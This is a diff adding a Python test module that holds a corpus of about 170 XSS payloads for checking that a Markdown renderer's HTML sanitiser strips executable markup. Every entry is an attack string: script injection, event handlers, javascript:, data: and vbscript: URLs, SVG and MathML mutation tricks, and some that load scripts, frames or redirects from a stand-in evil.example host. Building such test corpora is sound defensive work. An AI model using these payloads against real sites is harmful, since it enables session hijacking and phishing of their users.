@@ -1,0 +1,235 @@
+"""
+XSS corpus for the editor Markdown pipeline.
+
+Editors write Markdown that `community.markdown.render_markdown` turns into HTML with
+Python-Markdown (extensions: tables, fenced_code, sane_lists) and then cleans with nh3's
+allow-list. Every payload below is something a hostile (or compromised) editor account
+could type into a post body. The rendered output must never contain executable markup:
+no script/iframe/object/embed/svg/math/style/form/meta/base/link elements, no on*
+event-handler attributes, no style attributes, and no href/src/srcset/action/formaction/
+xlink:href whose value resolves to a javascript:, vbscript: or data: URL.
+
+The corpus is plain data so that unit tests, property tests and browser tests can share
+it. `PAYLOADS` is a list of (category, payload) pairs; every payload string is distinct.
+Categories: script, event-handler, javascript-url, data-url, vbscript-url, svg, mathml,
+markdown-trick, comment-cdata, style-and-other.
+"""
+
+PAYLOADS: list[tuple[str, str]] = [
+    # --- script: script elements in many spellings and in every Markdown container -----
+    ("script", "<script>alert(1)</script>"),
+    ("script", "<SCRIPT>alert(document.cookie)</SCRIPT>"),
+    ("script", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
+    ("script", '<script src="https://evil.example/x.js"></script>'),
+    ("script", "<script src=//evil.example/x.js></script>"),
+    ("script", '<script type="text/javascript" defer async>fetch("/api/me")</script>'),
+    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("script", "<<script>script>alert(1)<</script>/script>"),
+    ("script", "<script>alert(1)//"),
+    ("script", "<script\n>alert(1)</script\n>"),
+    ("script", "<script/xss src=https://evil.example/x.js></script>"),
+    ("script", "안녕하세요, 오늘의 공지입니다. <script>alert('공지')</script> 감사합니다."),
+    ("script", "- 첫 번째 항목\n- <script>alert('list')</script>\n- 세 번째 항목"),
+    ("script", "| 이름 | 값 |\n| --- | --- |\n| a | <script>alert('cell')</script> |"),
+    ("script", "## 제목 <script>alert('h2')</script>"),
+    ("script", "<div>\n<script>alert('block')</script>\n</div>"),
+    ("script", "> 인용문\n> <script>alert('quote')</script>"),
+    # --- event-handler: on* attributes on every element that fires events ------------------
+    ("event-handler", "<img src=x onerror=alert(1)>"),
+    ("event-handler", '<img src="x" ONERROR="alert(document.domain)">'),
+    ("event-handler", "<img/src=x/onerror=alert(1)>"),
+    ("event-handler", "<img src=x onerror\n=alert(1)>"),
+    ("event-handler", "<svg onload=alert(1)>"),
+    ("event-handler", "<body onload=alert(1)>"),
+    ("event-handler", "<details open ontoggle=alert(1)>"),
+    ("event-handler", "<input autofocus onfocus=alert(1)>"),
+    ("event-handler", "<video><source onerror=alert(1)></video>"),
+    ("event-handler", "<video src=x onerror=alert(1)></video>"),
+    ("event-handler", "<iframe onload=alert(1)></iframe>"),
+    ("event-handler", "<marquee onstart=alert(1)>흐르는 글자</marquee>"),
+    ("event-handler", '<a href="https://example.com" onclick="alert(1)">클릭하세요</a>'),
+    ("event-handler", '<span onmouseover="alert(1)">마우스를 올려 보세요</span>'),
+    (
+        "event-handler",
+        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
+    ),
+    ("event-handler", "<div tabindex=1 onfocusin=alert(1) autofocus>포커스</div>"),
+    ("event-handler", '<p onpointerenter="alert(1)">포인터</p>'),
+    ("event-handler", "<img src=x:y onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
+    ("event-handler", "<audio src=x onerror=alert(1)>"),
+    ("event-handler", "본문 중간에 ![사진](x.png) <img src=x onerror=alert('본문')> 이미지"),
+    # --- javascript-url: javascript: scheme in HTML links and every Markdown link form -----
+    ("javascript-url", '<a href="javascript:alert(1)">link</a>'),
+    ("javascript-url", "<a href=JaVaScRiPt:alert(1)>mixed</a>"),
+    ("javascript-url", "[클릭](javascript:alert(1))"),
+    ("javascript-url", "[x](JAVASCRIPT:alert(1))"),
+    ("javascript-url", "[x]( javascript:alert(1))"),
+    ("javascript-url", "[x](<javascript:alert(1)>)"),
+    ("javascript-url", "[참고 자료][ref]\n\n[ref]: javascript:alert(1)"),
+    ("javascript-url", "<javascript:alert(1)>"),
+    ("javascript-url", '<a href="java\tscript:alert(1)">tab</a>'),
+    ("javascript-url", '<a href="java\nscript:alert(1)">newline</a>'),
+    ("javascript-url", '<a href=" \t javascript:alert(1)">leading whitespace</a>'),
+    ("javascript-url", '<a href="&#106;avascript:alert(1)">decimal entity</a>'),
+    ("javascript-url", '<a href="&#x6A;avascript:alert(1)">hex entity</a>'),
+    ("javascript-url", '<a href="javascript&colon;alert(1)">named entity</a>'),
+    (
+        "javascript-url",
+        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
+        '&#0000105&#0000112&#0000116&#0000058alert(1)">padded entities</a>',
+    ),
+    ("javascript-url", "[x](&#106;avascript:alert(1))"),
+    ("javascript-url", "[x](javascript&#58;alert(1))"),
+    ("javascript-url", "[x](%6Aavascript:alert(1))"),
+    ("javascript-url", '<a href="javascript%3Aalert(1)">percent colon</a>'),
+    ("javascript-url", "[x](javascript\\:alert(1))"),
+    ("javascript-url", '<a href="\\x01javascript:alert(1)">backslash</a>'),
+    ("javascript-url", '<a href="\x01javascript:alert(1)">control char</a>'),
+    ("javascript-url", "![이미지](javascript:alert(1))"),
+    ("javascript-url", '<img src="javascript:alert(1)">'),
+    # --- data-url: data: documents in links, images, frames and plug-ins -------------------
+    ("data-url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'),
+    ("data-url", "[열기](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
+    ("data-url", "[x](data:text/html,<script>alert(1)</script>)"),
+    ("data-url", "![그림](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
+    ("data-url", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
+    ("data-url", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
+    (
+        "data-url",
+        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+    ),
+    ("data-url", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
+    ("data-url", '<a href="DaTa:text/html,<script>alert(1)</script>">mixed case</a>'),
+    ("data-url", '<a href="&#100;ata:text/html,<script>alert(1)</script>">entity</a>'),
+    ("data-url", "<data:text/html,alert(1)>"),
+    ("data-url", "[d][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+    ("data-url", '<a href=" data:text/html,<b>x</b>">leading space</a>'),
+    # --- vbscript-url: legacy IE scheme, still rejected ------------------------------------
+    ("vbscript-url", '<a href="vbscript:msgbox(1)">vb</a>'),
+    ("vbscript-url", '<a href="VBScript:MsgBox(&quot;XSS&quot;)">vb</a>'),
+    ("vbscript-url", "[클릭](vbscript:msgbox(1))"),
+    ("vbscript-url", "[x](VbScRiPt:msgbox(1))"),
+    ("vbscript-url", '<a href="&#118;bscript:msgbox(1)">entity</a>'),
+    ("vbscript-url", '<a href="&#x76;&#x62;script&colon;msgbox(1)">hex entity</a>'),
+    ("vbscript-url", '<a href="vb\tscript:msgbox(1)">tab</a>'),
+    ("vbscript-url", "<vbscript:msgbox(1)>"),
+    ("vbscript-url", "[vb][v]\n\n[v]: vbscript:msgbox(1)"),
+    ("vbscript-url", '<img src="vbscript:msgbox(1)">'),
+    # --- svg: SVG documents, animation and foreignObject tricks ----------------------------
+    ("svg", "<svg/onload=alert(1)>"),
+    ("svg", "<svg><script>alert(1)</script></svg>"),
+    ("svg", "<svg><script xlink:href=data:,alert(1)></script></svg>"),
+    ("svg", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>'),
+    (
+        "svg",
+        '<svg><animate attributeName=href values="javascript:alert(1)" />'
+        "<a id=x><text x=20 y=20>click</text></a></svg>",
+    ),
+    ("svg", "<svg><set attributeName=onmouseover to=alert(1) /></svg>"),
+    ("svg", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'),
+    (
+        "svg",
+        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
+        "</foreignObject></svg>",
+    ),
+    ("svg", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
+    ("svg", "<svg><image href=x onerror=alert(1) /></svg>"),
+    ("svg", "<svg><style>@import url(javascript:alert(1))</style></svg>"),
+    ("svg", "다이어그램: <svg width=10 height=10><circle r=5 onclick=alert(1) /></svg>"),
+    # --- mathml: MathML links and namespace-confusion mutation XSS --------------------------
+    (
+        "mathml",
+        '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
+    ),
+    ("mathml", '<math href="javascript:alert(1)">CLICK</math>'),
+    ("mathml", "<math><mtext><script>alert(1)</script></mtext></math>"),
+    ("mathml", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>"),
+    (
+        "mathml",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
+        "</style></mglyph></table></mtext></math>",
+    ),
+    (
+        "mathml",
+        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
+        '<a title="</style><img src onerror=alert(1)>">',
+    ),
+    ("mathml", "<math><mi><mglyph><style><!--</style><img src=x onerror=alert(1)>--></style>"),
+    ("mathml", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>"),
+    ("mathml", '<math><semantics><annotation-xml encoding="text/html"><script>alert(1)</script>'),
+    ("mathml", "수식 예제 <math><mrow><mi>x</mi><mo onclick=alert(1)>=</mo></mrow></math>"),
+    # --- markdown-trick: payloads that lean on Markdown syntax rather than raw HTML --------
+    ("markdown-trick", '[x](https://example.com "title\\" onmouseover=\\"alert(1)")'),
+    ("markdown-trick", '[x](https://example.com "a" onmouseover=alert(1) x=")'),
+    ("markdown-trick", '![alt" onerror="alert(1)](https://example.com/a.png)'),
+    ("markdown-trick", '![a"onerror=alert(1) x="](x)'),
+    ("markdown-trick", "[[x](javascript:alert(1))](https://example.com)"),
+    ("markdown-trick", "[a](https://example.com)(javascript:alert(1))"),
+    (
+        "markdown-trick",
+        "| 코드 | 설명 |\n| --- | --- |\n| `<script>alert(1)</script>` | 텍스트여야 함 |",
+    ),
+    (
+        "markdown-trick",
+        "| 항목 | 링크 |\n| --- | --- |\n| 위험 | <a href=javascript:alert(1)>x</a> |\n"
+        "| 이미지 | <img src=x onerror=alert(1)> |",
+    ),
+    ("markdown-trick", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
+    ("markdown-trick", "~~~\n</code></pre><script>alert(1)</script>\n~~~"),
+    ("markdown-trick", "    <script>alert('indented code')</script>"),
+    ("markdown-trick", '[링크]\n\n[링크]: javascript:alert(1) "제목"'),
+    ("markdown-trick", "[x][1]\n\n[1]: <javascript:alert(1)>"),
+    ("markdown-trick", '<https://example.com/" onmouseover="alert(1)>'),
+    ("markdown-trick", '<mailto:a@example.com" onclick="alert(1)>'),
+    ("markdown-trick", '[x](https://example.com/?q="><script>alert(1)</script>)'),
+    ("markdown-trick", "*<img src=x onerror=alert(1)>* 와 **<svg onload=alert(1)>**"),
+    ("markdown-trick", "1. 단계 하나\n2. [다음](javascript:alert(2))\n3. `<iframe>` 는 코드"),
+    # --- comment-cdata: comments, CDATA, conditional comments and PIs ----------------------
+    ("comment-cdata", "<!-- --><script>alert(1)</script><!-- -->"),
+    ("comment-cdata", "<!--><script>alert(1)</script>-->"),
+    ("comment-cdata", "<!---><img src=x onerror=alert(1)>-->"),
+    ("comment-cdata", "<!-- --!><img src=x onerror=alert(1)> -->"),
+    ("comment-cdata", '<!--<img src="--><img src=x onerror=alert(1)//">'),
+    ("comment-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
+    ("comment-cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
+    ("comment-cdata", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
+    ("comment-cdata", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
+    ("comment-cdata", '<?xml version="1.0"?><script>alert(1)</script>'),
+    ("comment-cdata", '<? foo="><script>alert(1)</script>">'),
+    ("comment-cdata", "<!DOCTYPE html><img src=x onerror=alert(1)>"),
+    ("comment-cdata", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>'),
+    ("comment-cdata", "주석 뒤에 <!-- 숨김 --> 본문 <!-- <a href=javascript:alert(1)>x</a> -->"),
+    # --- style-and-other: CSS, frames, plug-ins, navigation and legacy elements -----------
+    ("style-and-other", "<style>body{background:url(javascript:alert(1))}</style>"),
+    ("style-and-other", '<div style="width:expression(alert(1))">IE</div>'),
+    ("style-and-other", '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">bg</p>'),
+    ("style-and-other", "<style>@import 'https://evil.example/x.css';</style>"),
+    (
+        "style-and-other",
+        '<span style="position:fixed;top:0;left:0;width:100%;height:100%">덮기</span>',
+    ),
+    ("style-and-other", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("style-and-other", "<iframe src=https://evil.example/phish></iframe>"),
+    (
+        "style-and-other",
+        "<object data=https://evil.example/x.swf type=application/x-shockwave-flash>",
+    ),
+    ("style-and-other", "<embed src=https://evil.example/x.swf>"),
+    ("style-and-other", '<base href="https://evil.example/"><a href="/login">로그인</a>'),
+    ("style-and-other", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+    ("style-and-other", '<meta http-equiv=refresh content="0;url=https://evil.example/">'),
+    ("style-and-other", "<form action=javascript:alert(1)><input type=submit value=전송></form>"),
+    ("style-and-other", "<form><button formaction=javascript:alert(1)>확인</button></form>"),
+    ("style-and-other", "<link rel=import href=https://evil.example/x.html>"),
+    ("style-and-other", "<link rel=stylesheet href=javascript:alert(1)>"),
+    ("style-and-other", "<template><img src=x onerror=alert(1)></template>"),
+    ("style-and-other", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
+    ("style-and-other", "<isindex type=image src=1 onerror=alert(1)>"),
+    ("style-and-other", "<isindex action=javascript:alert(1) type=submit value=click>"),
+    ("style-and-other", '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AA 2x">'),
+    ("style-and-other", "<img src=https://example.com/a.png xlink:href=javascript:alert(1)>"),
+    ("style-and-other", "<a xlink:href=javascript:alert(1) href=https://example.com>x</a>"),
+    ("style-and-other", "<textarea><img src=x onerror=alert(1)></textarea>"),
+    ("style-and-other", "<title><img src=x onerror=alert(1)></title>"),
+    ("style-and-other", "<xmp><img src=x onerror=alert(1)></xmp>"),
+]
